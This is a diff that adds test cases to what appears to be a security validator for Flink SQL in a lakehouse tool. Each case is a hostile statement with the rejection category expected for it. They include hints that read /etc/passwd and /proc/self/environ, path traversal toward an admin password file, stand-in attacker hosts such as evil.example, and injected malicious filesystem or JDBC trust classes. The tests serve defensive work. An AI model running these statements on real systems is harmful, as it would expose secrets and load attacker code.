@@ -342,6 +342,82 @@ COMPILE AND EXECUTE PLAN '/home/freshet/.freshet/flink/warehouse/plan.json' FOR 
 -- expect: STATEMENT
 CREATE MODEL leak INPUT (a STRING) OUTPUT (b STRING) WITH ('provider' = 'openai', 'endpoint' = 'https://evil.example/v1');
 
+-- expect: PATH
+SELECT /*+ OPTIONS('path' = '/etc/passwd') */ * FROM lakehouse.ods.orders;
+
+-- expect: PATH
+SELECT * FROM lakehouse.ods.orders /*+ OPTIONS(path = '/etc/passwd') */;
+
+-- expect: PATH
+SELECT * FROM lakehouse.ods.orders WHERE customer_id IN (
+  SELECT customer_id FROM lakehouse.ods.customers /*+ OPTIONS('path' = '/etc/group') */);
+
+-- expect: PATH
+SELECT * FROM lakehouse.ods.orders AS o, LATERAL (
+  SELECT * FROM lakehouse.ods.customers /*+ OPTIONS('path' = '/proc/self/environ') */ AS c WHERE c.customer_id = o.customer_id);
+
+-- expect: PATH
+INSERT INTO lakehouse.ods.orders
+WITH src AS (SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */)
+SELECT * FROM src;
+
+-- expect: PATH
+DELETE FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/deleted') */ WHERE order_id = 1;
+
+-- expect: PATH
+UPDATE lakehouse.ods.orders /*+ OPTIONS('path' = '/tmp/updated') */ SET status = 'x';
+
+-- expect: PATH
+ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue RESUME WITH ('data-file.external-paths' = 'file:///tmp/resumed');
+
+-- expect: PATH
+ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue SET ('data-file.external-paths' = '/tmp/altered');
+
+-- expect: PATH
+ALTER MATERIALIZED TABLE lakehouse.dws.customer_revenue AS SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */;
+
+-- expect: PATH
+ALTER VIEW lakehouse.ods.v AS SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('path' = '/etc/passwd') */;
+
+-- expect: PATH
+CREATE TABLE lakehouse.ods.objects (id INT) WITH ('type' = 'object-table', 'object-location' = 'file:///home/freshet/.freshet');
+
+-- expect: PATH
+ALTER TABLE lakehouse.ods.orders ADD PARTITION (dt = '2024-01-01') WITH ('path' = '/etc');
+
+-- expect: PATH
+CREATE TEMPORARY TABLE success_file (a INT, dt STRING) PARTITIONED BY (dt) WITH ('connector' = 'filesystem',
+  'path' = '/home/freshet/.freshet/flink/warehouse/x', 'format' = 'csv',
+  'sink.partition-commit.policy.kind' = 'success-file',
+  'sink.partition-commit.success-file.name' = '../../../../initial-admin-password');
+
+-- expect: CONNECTOR
+CREATE TEMPORARY TABLE legacy (a INT) WITH ('connector.type' = 'hive');
+
+-- expect: PATH
+CREATE TEMPORARY TABLE paimon_anywhere (a INT) WITH ('connector' = 'paimon', 'path' = 'file:///home/freshet/.freshet/flink/catalog-store');
+
+-- expect: PATH
+CREATE TEMPORARY TABLE checkpoints (line STRING) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/flink/checkpoints', 'format' = 'raw');
+
+-- expect: OPTION
+CREATE TEMPORARY TABLE fs_impl (a INT) WITH ('connector' = 'filesystem', 'path' = '/home/freshet/.freshet/flink/warehouse/x',
+  'format' = 'csv', 'fs.file.impl' = 'com.evil.FileSystem');
+
+-- expect: PATH
+CREATE TEMPORARY TABLE default_fs (a INT) WITH ('connector' = 'paimon', 'path' = '/home/freshet/.freshet/flink/warehouse/x',
+  'fs.defaultFS' = 'hdfs://evil:8020');
+
+-- expect: OPTION
+CREATE TEMPORARY TABLE sqlserver_trust (id INT) WITH ('connector' = 'jdbc', 'table-name' = 't',
+  'url' = 'jdbc:sqlserver://db:1433;databaseName=shop;trustManagerClass=com.evil.Trust');
+
+-- expect: OPTION
+SELECT * FROM lakehouse.ods.orders /*+ OPTIONS('url' = 'jdbc:derby:/home/freshet/.freshet/db;create=true') */;
+
+-- expect: SYNTAX
+EXPLAIN COMPILE PLAN '/home/freshet/.freshet/flink/warehouse/p.json' FOR INSERT INTO lakehouse.ods.orders SELECT * FROM lakehouse.ods.orders;
+
 -- expect: SYNTAX
 CREATE TEMPORARY TABLE broken (line STRING) WITH ('connector' = 'filesystem', 'path' = '/etc/passwd' 'format' = 'raw';
 
